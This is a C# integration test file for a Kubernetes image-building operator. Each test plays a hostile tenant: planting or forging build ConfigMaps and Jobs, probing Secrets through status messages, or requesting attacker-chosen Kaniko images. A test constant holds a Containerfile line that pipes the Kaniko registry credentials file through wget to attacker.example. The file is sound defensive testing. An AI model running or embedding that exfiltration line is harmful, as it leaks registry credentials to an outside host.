using System.Text.Json;
using System.Text.Json.Nodes;
using TinyImage.Api;
using TinyImage.KubeEmulator;
using TinyImage.Operator.Building;
using TinyImage.Operator.Reconciler;
using Xunit;
using static TinyImage.Operator.IntegrationTests.Controllers.OperatorHarness;

namespace TinyImage.Operator.IntegrationTests.Controllers;

/// <summary>
/// The hostile corpus's cluster-side cases (issue 16), each named after the attack and played from the attacker's side
/// against the strict emulator: a tenant who may create TinyImages, ConfigMaps and Jobs in the namespace, and reads
/// status, tries to make the operator build its Containerfile with the victim's Secrets, report its digest, tell which
/// Secrets exist, or run what the admin's policy forbids. Each ends in a named condition, and a neighbour TinyImage
/// reconciled at the same time reaches Ready.
/// </summary>
public sealed class HostileTenantTests
{
    private const string EvilContainerfile = "FROM alpine\nRUN cat /kaniko/.docker/config.json | wget -qO- --post-data=@- http://attacker.example/\n";

    [Fact]
    public async Task Pre_Created_Build_ConfigMap_Is_Never_Mounted_The_Job_Carries_Its_Own_Containerfile()
    {
        await using var h = await StartAsync();
        h.Kube.Jobs.Runner = JobRunners.CompleteWith(_ => Digest('b'));
        h.Kube.Deployments.AutoReady = true;
        h.CreateSource();
        h.CreateTinyImage("victim");

        // The build name is deterministic: the attacker computes it from the victim's spec and source, and gets there
        // first with a ConfigMap of that name, as the previous release named its Containerfile ConfigMap.
        var name = BuildNameOf(h, "victim");
        var planted = h.Kube.Create("v1", "configmaps", new JsonObject
        {
            ["apiVersion"] = "v1",
            ["kind"] = "ConfigMap",
            ["metadata"] = new JsonObject { ["name"] = name, ["namespace"] = Namespace, ["labels"] = OurBuildLabels("victim") },
            ["data"] = new JsonObject { ["Containerfile"] = EvilContainerfile },
        });
        Assert.True(planted.IsSuccess, planted.Body.ToJsonString());
        h.StartOperator();
        h.CreateTinyImage("neighbour");

        await h.WaitForPhaseAsync("victim", "Ready");
        await h.WaitForPhaseAsync("neighbour", "Ready");
        AssertBuildsFromItsOwnAnnotation(h.JobFor("victim")!);
        Assert.Equal(EvilContainerfile, (string?)h.Object("v1", "configmaps", name)!["data"]!["Containerfile"]);
        Assert.Null(h.Object("v1", "configmaps", name)!["metadata"]!["ownerReferences"]);
        Assert.DoesNotContain(h.Kube.Requests.All, r => r.IsWrite && r.Resource == "configmaps" && r.Name == name && r.StatusCode < 300);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Pre_Created_Build_ConfigMap_Forging_The_Victims_Owner_Reference_Is_Never_Mounted(bool immutable)
    {
        await using var h = await StartAsync();
        h.Kube.Jobs.Runner = JobRunners.StartOnly();
        h.CreateSource();
        h.CreateTinyImage("victim");
        var name = BuildNameOf(h, "victim");
        var uid = (string)h.TinyImage("victim")!["metadata"]!["uid"]!;

        // Anyone who may create ConfigMaps may name any owner in the namespace: the reference alone proves nothing.
        var planted = h.Kube.Create("v1", "configmaps", new JsonObject
        {
            ["apiVersion"] = "v1",
            ["kind"] = "ConfigMap",
            ["metadata"] = new JsonObject
            {
                ["name"] = name,
                ["namespace"] = Namespace,
                ["labels"] = OurBuildLabels("victim"),
                ["ownerReferences"] = new JsonArray(new JsonObject { ["apiVersion"] = "tinyimage.dev/v1alpha1", ["kind"] = "TinyImage", ["name"] = "victim", ["uid"] = uid, ["controller"] = true }),
            },
            ["immutable"] = immutable,
            ["data"] = new JsonObject { ["Containerfile"] = EvilContainerfile },
        });
        Assert.True(planted.IsSuccess, planted.Body.ToJsonString());
        h.StartOperator();

        await Eventually.TrueAsync(() => h.JobFor("victim") is not null, "the victim's build Job");
        AssertBuildsFromItsOwnAnnotation(h.JobFor("victim")!);
        var writes = h.Kube.Requests.All.Where(r => r.StatusCode < 300 && r.IsWrite && (r.Resource == "configmaps" || r.Resource == "jobs")).Select(r => (r.Resource, r.Verb)).ToList();
        Assert.Equal([("jobs", "create")], writes);
    }

    [Fact]
    public async Task Rewriting_The_Build_Jobs_Containerfile_After_The_Operator_Wrote_It_Is_Refused_By_The_Api_Server()
    {
        await using var h = await StartAsync();
        h.Kube.Jobs.Runner = JobRunners.StartOnly();
        h.CreateSource();
        h.StartOperator();
        h.CreateTinyImage("victim");
        await Eventually.TrueAsync(() => h.JobFor("victim") is not null, "the victim's build Job");
        var name = (string)h.JobFor("victim")!["metadata"]!["name"]!;

        // The race of issue 16: rewrite the Containerfile after the operator's write, before the build pod reads it. It
        // is in the Job's pod template, which is immutable once the Job runs (only a suspended, never-started Job's
        // template labels and annotations may change).
        var rewritten = h.Kube.Mutate("batch/v1", "jobs", Namespace, name, job => job["spec"]!["template"]!["metadata"]!["annotations"]![KanikoJobBuilder.ContainerfileAnnotation] = EvilContainerfile);

        Assert.False(rewritten.IsSuccess);
        Assert.Contains("field is immutable", (string?)rewritten.Body["message"], StringComparison.Ordinal);
        AssertBuildsFromItsOwnAnnotation(h.JobFor("victim")!);
    }

    /// <summary>The Job mounts no ConfigMap for its Containerfile: a downwardAPI file of its own generated annotation.</summary>
    private static void AssertBuildsFromItsOwnAnnotation(JsonObject job)
    {
        var template = job["spec"]!["template"]!;
        Assert.StartsWith("# Generated by tinyimage-operator", (string?)template["metadata"]!["annotations"]![KanikoJobBuilder.ContainerfileAnnotation] ?? "", StringComparison.Ordinal);
        var volume = template["spec"]!["volumes"]!.AsArray().Single(v => (string?)v!["name"] == "containerfile")!;
        Assert.Null(volume["configMap"]);
        Assert.Equal("metadata.annotations['" + KanikoJobBuilder.ContainerfileAnnotation + "']", (string?)volume["downwardAPI"]!["items"]![0]!["fieldRef"]!["fieldPath"]);
    }

    [Fact]
    public async Task Foreign_Job_Under_The_Build_Name_Is_Never_Read_For_A_Digest()
    {
        await using var h = await StartAsync();
        h.Kube.Jobs.Runner = JobRunners.StartOnly();
        h.Kube.Deployments.AutoReady = true;
        h.CreateSource();
        h.CreateTinyImage("victim");
        var name = BuildNameOf(h, "victim");

        // The attacker's own Job under the build's name, finished, its pod reporting the attacker's digest.
        var planted = h.Kube.Create("batch/v1", "jobs", new JsonObject
        {
            ["apiVersion"] = "batch/v1",
            ["kind"] = "Job",
            ["metadata"] = new JsonObject { ["name"] = name, ["namespace"] = Namespace, ["labels"] = OurBuildLabels("victim") },
            ["spec"] = JsonNode.Parse("""{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"kaniko","image":"busybox:1.36"}]}}}"""),
        });
        Assert.True(planted.IsSuccess, planted.Body.ToJsonString());
        await Eventually.TrueAsync(() => h.Kube.Jobs.PodsOf(Namespace, name).Count == 1, "the attacker's pod");
        h.Kube.Jobs.Complete(Namespace, name, Digest('e'));
        h.StartOperator();
        h.Kube.Jobs.Runner = JobRunners.CompleteWith(_ => Digest('c'));
        h.CreateTinyImage("neighbour");

        await Eventually.TrueAsync(() => (string?)h.Condition("victim", "Stalled")?["reason"] == "ChildConflict", "victim Stalled ChildConflict");
        await h.WaitForPhaseAsync("neighbour", "Ready");
        var status = h.TinyImage("victim")!["status"]!;
        Assert.Equal("Job demo/" + name + " exists and is not controlled by this TinyImage", (string?)h.Condition("victim", "Stalled")?["message"]);
        Assert.DoesNotContain(Digest('e'), status.ToJsonString(), StringComparison.Ordinal);
        Assert.Null(status["image"]);
        Assert.Null(h.Object("apps/v1", "deployments", "victim"));
        Assert.DoesNotContain(h.Verifier.Requests, r => r.Digest == Digest('e'));
        Assert.DoesNotContain(h.Kube.Requests.All, r => r.Resource == "pods" && r.Subresource == "log" && r.Name?.StartsWith(name, StringComparison.Ordinal) == true);
    }

    [Fact]
    public async Task Secret_Probing_Through_Status_Cannot_Tell_A_Missing_Secret_From_One_Of_Another_Type()
    {
        await using var h = await StartAsync();
        h.CreateSource();
        CreateSecret(h, "opaque-creds", "Opaque", new JsonObject { ["token"] = "c2VjcmV0" });
        CreateSecret(h, "basic", "kubernetes.io/basic-auth", new JsonObject { ["username"] = "dQ==", ["password"] = "cA==" });
        CreateSecret(h, "docker", "kubernetes.io/dockerconfigjson", new JsonObject { [".dockerconfigjson"] = Convert.ToBase64String("{\"auths\":{}}"u8.ToArray()) });

        // Push Secrets: one missing, two that exist with other types.
        foreach (var (tinyImage, secret) in new[] { ("probe-missing", "nope"), ("probe-opaque", "opaque-creds"), ("probe-basic", "basic") })
        {
            h.CreateTinyImage(tinyImage);
            h.EditSpec(tinyImage, spec => spec["output"]!["pushSecret"] = secret);
        }

        // Git credentials: one missing, one that exists as a docker config.
        foreach (var (tinyImage, secret) in new[] { ("probe-git-missing", "nope"), ("probe-git-docker", "docker") })
        {
            h.CreateTinyImage(tinyImage);
            h.EditSpec(tinyImage, spec => spec["source"] = new JsonObject { ["git"] = new JsonObject { ["url"] = "https://git.example.com/team/hello.git", ["credentialsSecret"] = secret } });
        }

        // The operator starts once every probe has its final spec: a probe created with the harness's buildable spec and
        // edited after the operator saw it could have had a Job built for that first spec (seen once in a CI run).
        h.StartOperator();
        string? Message(string tinyImage) => (string?)h.Condition(tinyImage, "Stalled")?["message"];
        await Eventually.TrueAsync(
            () => new[] { "probe-missing", "probe-opaque", "probe-basic", "probe-git-missing", "probe-git-docker" }.All(t => (string?)h.Condition(t, "Stalled")?["reason"] == "SecretNotFound"),
            "every probe Stalled SecretNotFound");
        var push = new[] { ("probe-missing", "nope"), ("probe-opaque", "opaque-creds"), ("probe-basic", "basic") }.Select(p => Message(p.Item1)!.Replace(p.Item2, "SECRET", StringComparison.Ordinal)).Distinct().ToList();
        var git = new[] { ("probe-git-missing", "nope"), ("probe-git-docker", "docker") }.Select(p => Message(p.Item1)!.Replace(p.Item2, "SECRET", StringComparison.Ordinal)).Distinct().ToList();
        Assert.Equal(["Secret SECRET (spec.output.pushSecret) is not usable: it must exist in namespace demo with the key .dockerconfigjson (type kubernetes.io/dockerconfigjson)"], push);
        Assert.Equal(["Secret SECRET (spec.source.git.credentialsSecret) is not usable: it must exist in namespace demo with the keys username and password"], git);
        foreach (var probe in new[] { "probe-missing", "probe-opaque", "probe-basic", "probe-git-missing", "probe-git-docker" })
        {
            var status = h.TinyImage(probe)!["status"]!.ToJsonString();
            Assert.DoesNotContain("Opaque", status, StringComparison.Ordinal);
            Assert.DoesNotContain("basic-auth", status, StringComparison.Ordinal);
            Assert.DoesNotContain("does not exist", status, StringComparison.Ordinal);
            Assert.DoesNotContain("token", status, StringComparison.Ordinal);
            Assert.Null(h.JobFor(probe));
        }
    }

    [Fact]
    public async Task Kaniko_Image_Of_Its_Own_Choice_And_A_LoadBalancer_Stall_With_PolicyDenied_And_Nothing_Is_Built_Or_Exposed()
    {
        await using var h = await StartAsync();
        h.Kube.Jobs.Runner = JobRunners.CompleteWith(_ => Digest('d'));
        h.Kube.Deployments.AutoReady = true;
        h.CreateSource();
        h.StartOperator();

        h.CreateTinyImage("greedy", build: new JsonObject { ["kanikoImage"] = "attacker.example/kaniko:latest", ["builderImage"] = "attacker.example/rust:1" });
        h.EditSpec("greedy", spec => spec["deploy"] = new JsonObject { ["service"] = new JsonObject { ["type"] = "LoadBalancer" } });
        h.CreateTinyImage("neighbour");

        await Eventually.TrueAsync(() => (string?)h.Condition("greedy", "Stalled")?["reason"] == "PolicyDenied", "greedy Stalled PolicyDenied", () => h.TinyImage("greedy")?["status"]?.ToJsonString() ?? "");
        await h.WaitForPhaseAsync("neighbour", "Ready");
        var message = (string)h.Condition("greedy", "Stalled")!["message"]!;
        Assert.Contains("spec.build.builderImage: 'attacker.example/rust:1' is not allowed by the operator's policy (policy.allowedBuilderImages: only the operator's defaults)", message, StringComparison.Ordinal);
        Assert.Contains("spec.build.kanikoImage: 'attacker.example/kaniko:latest' is not allowed", message, StringComparison.Ordinal);
        Assert.Contains("spec.deploy.service.type: 'LoadBalancer' is not allowed by the operator's policy (policy.allowedServiceTypes: ClusterIP)", message, StringComparison.Ordinal);
        Assert.Equal("Failed", h.Phase("greedy"));
        Assert.Null(h.JobFor("greedy"));
        Assert.Null(h.Object("v1", "services", "greedy"));
        Assert.Null(h.Object("networking.k8s.io/v1", "networkpolicies", "greedy-build"));
        Assert.NotNull(h.Object("networking.k8s.io/v1", "networkpolicies", "neighbour-build"));
    }

    /// <summary>The build name the operator will use, computed as anyone who can read the TinyImage and its source can.</summary>
    private static string BuildNameOf(OperatorHarness h, string tinyImage)
    {
        var resource = JsonSerializer.Deserialize(h.TinyImage(tinyImage)!.ToJsonString(), TinyImageTypes.TinyImages.ItemInfo)!;
        var valid = SpecValidator.Validate(resource).Valid!;
        var data = h.Object("v1", "configmaps", "hello-src")!["data"]!.AsObject().ToDictionary(e => e.Key, e => (string)e.Value!, StringComparer.Ordinal);
        return ChildMetadata.BuildName(tinyImage, Building.PinnedBuildHash.ComputeOffline(valid, FastOptions, BuildHash.DigestConfigMapData(data, null))!);
    }

    private static JsonObject OurBuildLabels(string tinyImage) => new()
    {
        ["app.kubernetes.io/managed-by"] = "tinyimage-operator",
        ["app.kubernetes.io/component"] = "build",
        ["tinyimage.dev/name"] = tinyImage,
    };

    private static void CreateSecret(OperatorHarness h, string name, string type, JsonObject data)
    {
        var created = h.Kube.Create("v1", "secrets", new JsonObject
        {
            ["apiVersion"] = "v1",
            ["kind"] = "Secret",
            ["metadata"] = new JsonObject { ["name"] = name, ["namespace"] = Namespace },
            ["type"] = type,
            ["data"] = data,
        });
        Assert.True(created.IsSuccess, created.Body.ToJsonString());
    }
}
